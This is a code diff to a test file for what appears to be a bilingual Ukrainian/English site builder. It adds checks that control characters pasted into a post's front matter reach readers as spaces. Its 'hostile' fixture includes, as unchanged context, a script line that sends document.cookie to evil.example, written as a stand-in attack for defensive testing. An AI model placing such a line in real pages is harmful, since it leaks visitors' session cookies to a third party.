@@ -447,7 +447,7 @@ def hostile(tmp_path_factory: pytest.TempPathFactory) -> Built:
     write_post(root, "pasted-controls", "date: 2026-11-18\n", {  # escapes in YAML, the characters themselves in the text
         "uk": '---\ntitle: "Зустріч\\vу громаді"\nsummary: "Підсумки\\x1b зустрічі"\n---\n\n'
               'Абзац із Word:\x0bрядок\x0cсторінка.\n\nОстанній абзац.\n',
-        "en": '---\ntitle: "A meeting\\vin the community"\nsummary: "The meeting\\x1b in brief"\n---\n\nText.\n'})
+        "en": '---\ntitle: A meeting\x0bin the community\nsummary: "The meeting\x1b in brief"\n---\n\nText.\n'})  # raw: YAML refuses them
     phone_photo(root / "docs" / "assets" / "team.jpg", (800, 600))
     (root / "docs" / "landing.html").write_text('<script src="assets/steal.js"></script>', encoding="utf-8")
     (root / "docs" / "assets" / "steal.js").write_text("fetch('https://evil.example/?' + document.cookie)", encoding="utf-8")
@@ -592,11 +592,14 @@ def test_a_scheduled_posts_picture_is_no_false_alarm_and_not_published(hostile: 
 
 def test_control_characters_pasted_into_a_post_reach_readers_as_spaces(hostile: Built) -> None:
     """Word's line break (U+000B), a PDF's page break (U+000C), a terminal's escape (U+001B) in a title, a summary and
-    a text: XML cannot carry them, and the build used to stop in the feeds with a traceback. They are spaces now, the
-    feeds parse, and hub check says on which line of the text they are (an editor's line: no break at U+000B)."""
+    a text: XML cannot carry them, and the build used to stop in the feeds with a traceback (in PyYAML's reader, for
+    those typed into the front matter itself). They are spaces now, the feeds parse, and hub check says on which
+    line of the text they are (an editor's line: no break at U+000B)."""
     control = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f]")
     page = hostile.page("news/2026/pasted-controls")
     assert not control.search(page) and "<h1>Зустріч у громаді</h1>" in page
+    english = hostile.page("en/news/2026/pasted-controls")
+    assert not control.search(english) and "<h1>A meeting in the community</h1>" in english
     for lang, prefix in (("uk", ""), ("en", "en/")):
         assert not control.search(hostile.feeds(lang))
         for feed in ("feed.xml", "atom.xml"):
